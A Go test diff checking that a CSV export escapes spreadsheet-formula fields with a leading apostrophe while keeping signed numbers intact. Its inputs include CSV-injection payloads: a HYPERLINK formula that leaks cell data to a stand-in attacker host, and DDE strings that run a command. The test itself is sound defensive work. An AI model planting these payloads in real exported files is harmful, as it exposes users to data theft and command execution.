@@ -56,3 +56,36 @@ func TestCSVRows(t *testing.T) {
 		})
 	}
 }
+
+// TestCSVFieldsAreText: a download's field that a spreadsheet would take
+// for a formula is written with an apostrophe first, whoever wrote it (a
+// school's name, a group's label, a heading); the signed numbers folio
+// writes are left as they are.
+func TestCSVFieldsAreText(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{`=HYPERLINK("https://evil.example/?x="&A1,"Details")`, `'=HYPERLINK("https://evil.example/?x="&A1,"Details")`},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"\tTab", "'\tTab"},
+		{"\rReturn", "'\rReturn"},
+		{"-", "'-"},
+		{"+4.3 pp", "+4.3 pp"},
+		{"-12.5%", "-12.5%"},
+		{"-1,234", "-1,234"},
+		{"Lincoln Middle", "Lincoln Middle"},
+		{"≥95%", "≥95%"},
+		{"", ""},
+	} {
+		if got := spreadsheetText(tc.in); got != tc.want {
+			t.Errorf("spreadsheetText(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+	g := newGrid([]Item{{ID: "a", Label: "=1+2"}}, []Item{{ID: "s", Label: "@x"}})
+	g.CategoryName, g.SeriesName, g.ValueName = "School", "-Group", "Gain"
+	g.Cells[0][0] = Cell{State: Value, Text: "+4.3 pp"}
+	want := "School id,School,'-Group id,'-Group,Gain\na,'=1+2,s,'@x,+4.3 pp\n"
+	if got := string((&Chart{Grid: g}).CSV()); got != want {
+		t.Errorf("CSV =\n%s\nwant\n%s", got, want)
+	}
+}
